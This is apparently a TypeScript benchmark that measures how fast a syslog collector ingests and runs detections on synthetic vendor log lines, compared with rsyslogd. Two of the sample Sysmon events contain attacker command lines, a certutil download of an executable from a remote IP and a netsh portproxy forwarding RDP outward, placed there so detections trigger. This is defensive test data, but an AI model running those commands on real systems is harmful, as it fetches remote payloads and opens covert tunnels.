/**
 * Syslog ingest throughput on loopback, with parsing, vendor interpretation and all detections on: N
 * messages (a mix of ASA/IOS/SRX/PAN-OS/Fortinet flow lines, Sysmon key=value host events with download and
 * portproxy command lines, Cisco/Junos/RFC 5424 plain lines) sent by a separate Node process over TCP
 * (octet-counted, written as fast as the socket drains) and over UDP, to our collectors; then the same
 * streams to rsyslogd (own config: imtcp/imudp → omfile, one line per message) in the same run, counting
 * the lines it writes. Prints messages/s (wall, and our CPU), loss, alerts. Bounded by N and a time cap.
 * Usage: node --import tsx bench/syslog.bench.ts [N=200000] [--no-rsyslog] [--no-detections]
 */
import { execFileSync, spawn } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { loadavg, tmpdir } from 'node:os'
import path from 'node:path'
import { Counters } from '../analytics/counters.js'
import type { DetectionInstance } from '../analytics/detection.js'
import { DETECTIONS } from '../analytics/detections/index.js'
import type { SensorEvent } from '../analytics/events.js'
import { AddressSet, DEFAULT_INTERNAL_CIDRS } from '../analytics/net/address-set.js'
import { startSyslogTcp } from '../sensor/collectors/syslog-tcp.js'
import { startSyslogUdp } from '../sensor/collectors/syslog-udp.js'
import { SyslogIngest } from '../sensor/syslog-ingest.js'

const args = process.argv.slice(2)
const N = Number(args.find((a) => /^\d+$/.test(a)) ?? 200_000)
const WITH_RSYSLOG = !args.includes('--no-rsyslog')
const WITH_DETECTIONS = !args.includes('--no-detections')
const CAP_MS = 60_000

const LINES = [
  '<166>Mar 04 2024 10:01:23 fw01 : %ASA-6-302014: Teardown TCP connection {i} for outside:198.51.100.80/443 to inside:10.1.{a}.{b}/5{c} duration 0:01:23 bytes 48213 TCP FINs',
  '<190>{i}: Nov 21 22:23:27: %SEC-6-IPACCESSLOGP: list ACL-OUT permitted tcp 10.1.{a}.{b}(5{c}) -> 198.51.100.69(80), 3 packets',
  '<14>Mar  4 10:00:30 srx1 RT_FLOW: RT_FLOW_SESSION_CLOSE: session closed TCP FIN: 10.1.{a}.{b}/5{c}->198.51.100.80/80 junos-http 203.0.113.2/21000->198.51.100.80/80 None None 6 p1 trust untrust {i} 12(1234) 40(52428) 30 HTTP UNKNOWN N/A(N/A) ge-0/0/0.0 No',
  '<14>Mar  4 10:00:40 pa1 1,2024/03/04 10:00:40,016401002737,TRAFFIC,end,2561,2024/03/04 10:00:40,10.1.{a}.{b},198.51.100.80,203.0.113.2,198.51.100.80,allow-web,,,web-browsing,vsys1,trust,untrust,eth1,eth2,fwd,2024/03/04 10:00:40,{i},1,5{c},80,1,80,0x19,tcp,allow,21000,1000,20000,15,2024/03/04 10:00:28,12,any,0,1,0x0,x,US,0,5,10,tcp-fin',
  '<189>date=2024-03-04 time=10:00:41 type="traffic" subtype="forward" srcip=10.1.{a}.{b} srcport=5{c} dstip=198.51.100.81 dstport=443 proto=6 action="close" service="HTTPS" duration=11 sentbyte=1188 rcvdbyte=1224 sentpkt=17 rcvdpkt=16',
  '<14>1 2024-03-04T10:00:42.123Z ws{a}.corp.example Microsoft-Windows-Sysmon 2580 1 - EventID=1 SourceName=Microsoft-Windows-Sysmon Computer=ws{a}.corp.example User=CORP\\u{b} Image=C:\\Windows\\System32\\certutil.exe CommandLine="certutil -urlcache -split -f http://198.51.100.7/{i}.exe p.exe"',
  '<14>1 2024-03-04T10:00:43.123Z ws{a}.corp.example Microsoft-Windows-Sysmon 2580 1 - EventID=1 SourceName=Microsoft-Windows-Sysmon Computer=ws{a}.corp.example Image=C:\\Windows\\System32\\netsh.exe CommandLine="netsh I p a v l={c} c=203.0.113.{b} connectp=3389"',
  '<14>1 2024-03-04T10:00:44.123Z ws{a}.corp.example Microsoft-Windows-Sysmon 2580 1 - EventID=1 SourceName=Microsoft-Windows-Sysmon Computer=ws{a}.corp.example Image=C:\\Windows\\explorer.exe CommandLine="C:\\Windows\\explorer.exe /factory,{i}"',
  '<189>{i}: router1: *Nov 14 08:30:56.699: %LINK-5-CHANGED: Interface GigabitEthernet{b}, changed state to administratively down',
  '<28>Jul 20 21:45:59 vmx01 rpd[1234]: RPD_BGP_NEIGHBOR_STATE_CHANGED: BGP peer 10.0.{a}.{b} (External AS 65000) changed state from Established to Idle (event {i})',
  '<165>1 2024-03-04T10:00:45.003+01:00 app{a}.example evntslog - ID47 [exampleSDID@32473 iut="3" eventSource="Application" eventID="{i}"] An application event log entry {b}',
  '<13>Mar  4 10:00:46 host{a} sshd[{c}]: Accepted publickey for deploy from 10.2.{a}.{b} port 5{c} ssh2',
]

function makeMessages(n: number): Buffer[] {
  const out: Buffer[] = []
  for (let i = 0; i < n; i++) {
    const t = LINES[i % LINES.length] ?? ''
    out.push(
      Buffer.from(
        t
          .replaceAll('{i}', String(i))
          .replaceAll('{a}', String((i >> 8) & 255))
          .replaceAll('{b}', String(i & 255))
          .replaceAll('{c}', String(1000 + (i % 9000))),
      ),
    )
  }
  return out
}

function makeReceiver() {
  const ctx = { internal: new AddressSet(DEFAULT_INTERNAL_CIDRS) }
  const dets: { inputs: ReadonlySet<string>; inst: DetectionInstance }[] = (WITH_DETECTIONS ? DETECTIONS : []).map(
    (d) => ({
      inputs: new Set<string>(d.inputs),
      inst: d.create(d.params, ctx),
    }),
  )
  const counters = new Counters()
  let alerts = 0
  let events = 0
  const emit = (ev: SensorEvent) => {
    events++
    for (const d of dets) {
      if (!d.inputs.has(ev.kind)) continue
      const a = d.inst.onEvent(ev)
      if (a !== undefined) alerts += a.length
    }
  }
  const ingest = new SyslogIngest({ emit, counters, source: 'bench' })
  return { counters, ingest, alerts: () => alerts, events: () => events }
}

const SENDER = `
const fs = require('fs'), net = require('net'), dgram = require('dgram')
const [mode, file, port] = process.argv.slice(1)
const buf = fs.readFileSync(file)
if (mode === 'tcp') {
  const s = net.connect(Number(port), '127.0.0.1', () => {
    let o = 0
    const w = () => {
      while (o < buf.length) {
        const e = Math.min(o + 262144, buf.length)
        const ok = s.write(buf.subarray(o, e))
        o = e
        if (!ok) return s.once('drain', w)
      }
      s.end()
    }
    w()
  })
} else {
  const s = dgram.createSocket('udp4')
  const msgs = []
  let o = 0
  while (o < buf.length) { const lf = buf.indexOf(10, o); msgs.push(buf.subarray(o, lf)); o = lf + 1 }
  let i = 0, inflight = 0
  const pump = () => {
    while (i < msgs.length && inflight < 64) { inflight++; s.send(msgs[i++], Number(port), '127.0.0.1', () => { inflight--; if (i < msgs.length) pump(); else if (inflight === 0) s.close() }) }
  }
  pump()
}
`

function runSender(mode: 'tcp' | 'udp', file: string, port: number): Promise<number> {
  return new Promise((resolve) => {
    const t0 = performance.now()
    const p = spawn(process.execPath, ['-e', SENDER, mode, file, String(port)], { stdio: 'inherit' })
    p.on('exit', () => resolve(performance.now() - t0))
  })
}

async function until(cond: () => boolean, capMs: number): Promise<boolean> {
  const end = performance.now() + capMs
  while (!cond()) {
    if (performance.now() > end) return false
    await new Promise((r) => setTimeout(r, 5))
  }
  return true
}

const fmt = (n: number) => Math.round(n).toLocaleString('en-US')

async function benchOurs(mode: 'tcp' | 'udp', file: string): Promise<void> {
  const r = makeReceiver()
  const l =
    mode === 'tcp'
      ? await startSyslogTcp({ host: '127.0.0.1', port: 0, ingest: r.ingest, counters: r.counters })
      : await startSyslogUdp({ host: '127.0.0.1', port: 0, ingest: r.ingest, recvBufferSize: 32 << 20 })
  const received = () => r.counters.get('syslog_messages_total')
  const cpu0 = process.cpuUsage()
  const t0 = performance.now()
  let senderDone = false
  const sender = runSender(mode, file, l.address.port).then((x) => {
    senderDone = true
    return x
  })
  // Done when all arrived, or (UDP loss) when the sender has finished and nothing arrived for 1 s.
  let last = -1
  let lastChange = t0
  await until(() => {
    const n = received()
    if (n !== last) {
      last = n
      lastChange = performance.now()
    }
    return n >= N || (senderDone && performance.now() - lastChange > 1000)
  }, CAP_MS)
  const sendMs = await sender
  const ms = (received() >= N ? performance.now() : lastChange) - t0
  const cpu = process.cpuUsage(cpu0)
  await l.close()
  const got = received()
  const cpuS = (cpu.user + cpu.system) / 1e6
  console.log(
    `ours ${mode}: ${fmt(got)}/${fmt(N)} messages (loss ${fmt(N - got)}), ${fmt(got / (ms / 1000))} msg/s wall, ` +
      `${fmt(got / cpuS)} msg/s per CPU-second, sender ${fmt(sendMs)} ms, events ${fmt(r.events())}, alerts ${fmt(r.alerts())}, ` +
      `errors ${JSON.stringify(r.counters.family('syslog_errors_total'))}`,
  )
}

async function benchRsyslog(file: string, udpFile: string): Promise<void> {
  const dir = mkdtempSync(path.join(tmpdir(), 'isyslog-bench-'))
  const tPort = 30000 + Math.floor(Math.random() * 10000)
  const uPort = tPort + 1
  const out = path.join(dir, 'out.log')
  writeFileSync(
    path.join(dir, 'rsyslog.conf'),
    [
      `global(workDirectory="${dir}" maxMessageSize="64k")`,
      'module(load="imtcp")',
      `input(type="imtcp" address="127.0.0.1" port="${tPort}")`,
      'module(load="imudp")',
      `input(type="imudp" address="127.0.0.1" port="${uPort}" rcvbufSize="32m")`,
      'template(name="msgonly" type="string" string="%msg%\\n")',
      `*.* action(type="omfile" file="${out}" template="msgonly")`,
      '',
    ].join('\n'),
  )
  const rs = spawn('rsyslogd', ['-n', '-f', path.join(dir, 'rsyslog.conf'), '-i', path.join(dir, 'pid')], {
    stdio: 'ignore',
  })
  const lines = () => {
    try {
      return Number(execFileSync('wc', ['-l', out], { encoding: 'utf8' }).trim().split(' ')[0])
    } catch {
      return 0
    }
  }
  try {
    await until(() => {
      try {
        execFileSync('logger', ['-n', '127.0.0.1', '-P', String(tPort), '-T', 'probe'], { stdio: 'ignore' })
      } catch {
        return false
      }
      return lines() > 0
    }, 10000)
    for (const [mode, f] of [
      ['tcp', file],
      ['udp', udpFile],
    ] as const) {
      const base = lines()
      const t0 = performance.now()
      const sendMs = await runSender(mode, f, mode === 'tcp' ? tPort : uPort)
      let last = -1
      let lastChange = performance.now()
      await until(() => {
        const n = lines() - base
        if (n !== last) {
          last = n
          lastChange = performance.now()
        }
        return n >= N || performance.now() - lastChange > 1500
      }, CAP_MS)
      const got = lines() - base
      const ms = (got >= N ? performance.now() : lastChange) - t0
      console.log(
        `rsyslogd ${mode}: ${fmt(got)}/${fmt(N)} lines written (loss ${fmt(N - got)}), ${fmt(got / (ms / 1000))} msg/s wall, sender ${fmt(sendMs)} ms`,
      )
    }
  } finally {
    rs.kill('SIGTERM')
    await new Promise((r) => rs.once('exit', r))
    rmSync(dir, { recursive: true, force: true })
  }
}

const msgs = makeMessages(N)
const dir = mkdtempSync(path.join(tmpdir(), 'isyslog-data-'))
const tcpFile = path.join(dir, 'tcp.bin')
const udpFile = path.join(dir, 'udp.txt')
writeFileSync(tcpFile, Buffer.concat(msgs.flatMap((m) => [Buffer.from(`${m.length} `), m])))
writeFileSync(udpFile, Buffer.concat(msgs.flatMap((m) => [m, Buffer.from('\n')])))
console.log(
  `${fmt(N)} messages, ${(readFileSync(tcpFile).length / 1e6).toFixed(1)} MB octet-counted; node ${process.version}; detections: ${WITH_DETECTIONS ? DETECTIONS.map((d) => d.id).join(', ') : 'off'}; load average ${loadavg()
    .map((x) => x.toFixed(1))
    .join(' ')}`,
)
{
  // In-process floor: the same messages through SyslogIngest (+ detections) with no sockets, CPU time only.
  const r = makeReceiver()
  const c0 = process.cpuUsage()
  for (const m of msgs) r.ingest.handleMessage(m, 0, m.length, '127.0.0.1', 1.7e9)
  const c = process.cpuUsage(c0)
  console.log(
    `in-process ingest: ${fmt(N / ((c.user + c.system) / 1e6))} msg/s per CPU-second, alerts ${fmt(r.alerts())}`,
  )
}
try {
  await benchOurs('tcp', tcpFile)
  await benchOurs('udp', udpFile)
  if (WITH_RSYSLOG) await benchRsyslog(tcpFile, udpFile)
} finally {
  rmSync(dir, { recursive: true, force: true })
}
